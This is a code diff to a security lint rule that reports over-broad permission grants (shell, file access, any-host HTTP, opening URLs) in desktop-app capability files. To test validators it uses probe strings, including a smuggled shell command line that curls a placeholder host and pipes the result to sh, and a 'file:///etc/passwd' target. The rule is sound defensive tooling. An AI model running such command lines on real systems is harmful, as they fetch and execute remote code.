@@ -1,8 +1,11 @@
 import type { ResolvedCommand, ResolvedModel } from "../engine/index.js";
+import type { EntryProvenance } from "../engine/resolve.js";
 import { sortMapKeys } from "../engine/normalize.js";
 import type { Capability } from "../model/types.js";
 import { isPlainObject } from "../model/capability.js";
-import { describeTargets, entryOf, entryPath } from "./engine-helpers.js";
+import { labelMatches } from "../engine/glob.js";
+import { describeTargets, entryOf, entryPath, samePath } from "./engine-helpers.js";
+import { isForeignReach, loadRemotePatternTools, urlReach, type RemotePatternTools } from "./url-reach.js";
 import { defineRule } from "./types.js";
 
 /**
@@ -31,10 +34,44 @@ const broadPath = (value: unknown) => {
   const path = pathOf(value);
   return path !== undefined && BROAD_PATHS.test(path.trim()) ? path : undefined;
 };
+/** Set when the check starts: the URL-pattern tools the http scope breadth is decided with. */
+let patternTools: RemotePatternTools | undefined;
+/** An http scope URL that reaches hosts the app cannot own (`https://*`, `https://*.*`, `https://*.example.*`). */
 const broadUrl = (value: unknown) => {
   const url = urlOf(value);
-  return url !== undefined && /^(\*|[a-z*]+):\/\/\*\*?(:\*)?(\/\*?)?$/i.test(url.trim()) ? url : undefined;
+  if (url === undefined || !patternTools) return undefined;
+  const reach = urlReach(patternTools.URLPattern, url.trim());
+  return reach && isForeignReach(reach) ? url : undefined;
 };
+/** URLs an opener url scope (a glob over the whole URL) must not reach: local files and custom schemes. */
+const OPENER_PROBES = ["file:///etc/passwd", "caplint-probe:run"];
+const broadOpenerUrl = (value: unknown) => {
+  const url = isPlainObject(value) && typeof value.url === "string" ? value.url : undefined;
+  return url !== undefined && OPENER_PROBES.some((probe) => labelMatches(url, probe)) ? url : undefined;
+};
+
+const SHELLS = /^(sh|bash|zsh|dash|ksh|fish|cmd|powershell|pwsh)(\.exe)?$/i;
+/** What an attacker's script would pass: one token that the shell runs as several commands. */
+const COMMAND_LINE_PROBE = "id;curl${IFS}example.invalid|sh";
+/**
+ * A shell scope entry that runs any command line: a shell program (`sh`, `cmd`, `powershell`, …) whose
+ * arguments are unrestricted (`args: true`) or include a validator that accepts a whole command line.
+ */
+function anyCommandLine(value: unknown): boolean {
+  if (!isPlainObject(value)) return false;
+  const program = String(value.cmd ?? value.name ?? "").split(/[\\/]/).pop() ?? "";
+  if (!SHELLS.test(program)) return false;
+  if (value.args === true) return true;
+  if (!Array.isArray(value.args)) return false;
+  return value.args.some((arg) => {
+    if (!isPlainObject(arg) || typeof arg.validator !== "string") return false;
+    try {
+      return new RegExp(`^(?:${arg.validator})$`, "u").test(COMMAND_LINE_PROBE);
+    } catch {
+      return false;
+    }
+  });
+}
 
 const DANGERS: readonly Danger[] = [
   {
@@ -55,16 +92,25 @@ const DANGERS: readonly Danger[] = [
   { id: "fs-read", commands: FS_READ, broad: broadPath, impact: "read secrets such as SSH keys and browser profiles across" },
   { id: "http", commands: ["plugin:http|fetch"], broad: broadUrl, impact: "send requests with the app's privileges to any server, including the local network, without CORS, to" },
   { id: "opener-path", commands: ["plugin:opener|open_path"], broad: broadPath, impact: "open, and so run, any file with its default program across" },
+  {
+    id: "opener-url",
+    commands: ["plugin:opener|open_url"],
+    broad: broadOpenerUrl,
+    impact: "open any URL, file: and custom schemes included, in the program registered for it, allowed by",
+  },
 ];
 
 export default defineRule({
   id: "dangerous-permission",
-  description: "Report high-risk grants (shell, upload, broad file-system write or read, any-host HTTP); an error when remote pages or every window get them.",
+  description: "Report high-risk grants (shell, upload, broad file-system write or read, any-host HTTP, opening any URL); an error when remote pages or every window get them.",
   category: "security",
   defaultSeverity: "warning",
   fixable: false,
   async check(context) {
-    for (const model of await context.resolutions()) {
+    const models = await context.resolutions();
+    if (models.length === 0) return;
+    patternTools = await loadRemotePatternTools();
+    for (const model of models) {
       // Grants of dangerous commands by capability, gathered once: only capabilities that have some are visited.
       const byCapability = new Map<number, Map<string, ResolvedCommand[]>>();
       for (const danger of DANGERS) {
@@ -82,6 +128,9 @@ export default defineRule({
           if (effective.length === 0) continue;
           let first = effective[0]!;
           let reach = "";
+          /** The entry of this capability that brings the broad value, when it is not the grant itself (an `fs:scope` entry). */
+          let scopeEntry: EntryProvenance | undefined;
+          let commandLine = false;
           if (danger.broad) {
             const matches = new Set<string>();
             // Capabilities other than this one whose global scope entries make the grant broad.
@@ -91,8 +140,10 @@ export default defineRule({
               const hit = danger.broad(value);
               if (hit === undefined) continue;
               matches.add(hit);
+              if (danger.id === "shell" && anyCommandLine(value)) commandLine = true;
               hitGrant ??= grant;
-              if (from !== undefined && from !== resolved.capability.identifier) lenders.add(from);
+              if (from !== undefined && from.capability !== resolved.capability.identifier) lenders.add(from.capability);
+              else if (from !== undefined && !scopeEntry && !samePath(from.path, grant.provenance.path)) scopeEntry = from;
             }
             if (!hitGrant) continue;
             first = hitGrant;
@@ -103,19 +154,21 @@ export default defineRule({
           }
           const source = entryOf(model, first);
           if (!source) continue;
-          const exposure = exposureOf(resolved.capability);
+          const exposure = exposureOf(resolved.capability, patternTools!);
           const granted = new Set(effective.map((g) => g.command));
           // A few names, so the message stays one readable line (fs:write-all alone grants ten commands).
           const listed = [...granted];
           const commands = listed.length > 3 ? `${listed.slice(0, 2).join(", ")} and ${listed.length - 2} more` : listed.join(", ");
-          const said = typeof danger.impact === "string" ? danger.impact : danger.impact(granted);
+          const said = commandLine ? "run any command line on the user's machine" : typeof danger.impact === "string" ? danger.impact : danger.impact(granted);
           const impact = danger.broad && danger.id !== "shell" ? `${said} ${reach}` : said + (reach ? ` (${reach})` : "");
+          // Name (and point at) the entry that brings the broad scope: `fs:scope`, not the `fs:default` beside it.
+          const scopedBy = scopeEntry ? ` with the scope of "${scopeEntry.chain[0]}"` : "";
           context.report({
             at: source.capability.source,
-            path: entryPath(source.capability, first.provenance.path),
+            path: entryPath(source.capability, (scopeEntry ?? first.provenance).path),
             escalate: exposure !== undefined,
             data: { commands: listed },
-            message: `dangerous grant "${first.provenance.chain[0]}" (${commands}): a script in ${exposure ?? describeTargets(resolved.capability)} could ${impact}`,
+            message: `dangerous grant "${first.provenance.chain[0]}" (${commands})${scopedBy}: a script in ${exposure ?? describeTargets(resolved.capability)} could ${impact}`,
             hint: exposure
               ? "move this permission to a capability for trusted local windows only, with a narrow scope"
               : "narrow the scope to the folders, hosts or programs the app needs, and grant it only to the windows that use it",
@@ -130,13 +183,13 @@ export default defineRule({
  * The command scope of the grant plus the plugin's global scope: what the command is handed. Global
  * scope values say which capability set them: the host shares them with every window.
  */
-function scopeValues(model: ResolvedModel, grant: ResolvedCommand): Array<{ value: unknown; from?: string }> {
+function scopeValues(model: ResolvedModel, grant: ResolvedCommand): Array<{ value: unknown; from?: EntryProvenance }> {
   const global = model.globalScope.get(grant.key);
   // A value the command scope or the global scope also denies grants nothing (deny wins).
   const denied = new Set([...(grant.scope?.deny ?? []), ...(global?.deny ?? [])].map(canonical));
-  const values: Array<{ value: unknown; from?: string }> = (grant.scope?.allow ?? []).map((value) => ({ value }));
+  const values: Array<{ value: unknown; from?: EntryProvenance }> = (grant.scope?.allow ?? []).map((value) => ({ value }));
   for (const contribution of global?.contributions ?? []) {
-    for (const value of contribution.scope.allow) values.push({ value, from: contribution.provenance.capability });
+    for (const value of contribution.scope.allow) values.push({ value, from: contribution.provenance });
   }
   return values.filter(({ value }) => !denied.has(canonical(value)));
 }
@@ -146,9 +199,13 @@ function canonical(value: unknown): string {
   return JSON.stringify(sortMapKeys(value as Parameters<typeof sortMapKeys>[0]));
 }
 
-/** Why a grant is worse here: remote pages or every window; undefined for trusted local windows. */
-function exposureOf(capability: Capability): string | undefined {
-  const urls = capability.remote?.urls ?? [];
+/**
+ * Why a grant is worse here: remote pages or every window; undefined for trusted local windows. Remote
+ * patterns that reach loopback hosts only (a dev server on `http://localhost:*`) are the machine's own
+ * pages, as insecure-remote and broad-remote judge them.
+ */
+function exposureOf(capability: Capability, tools: RemotePatternTools): string | undefined {
+  const urls = (capability.remote?.urls ?? []).filter((url) => !urlReach(tools.URLPattern, url)?.loopbackOnly);
   if (urls.length) return `remote pages (${urls.map((u) => `"${u}"`).join(", ")})`;
   if (capability.windows.includes("*") || capability.webviews.includes("*")) return `every window ("*")`;
   return undefined;
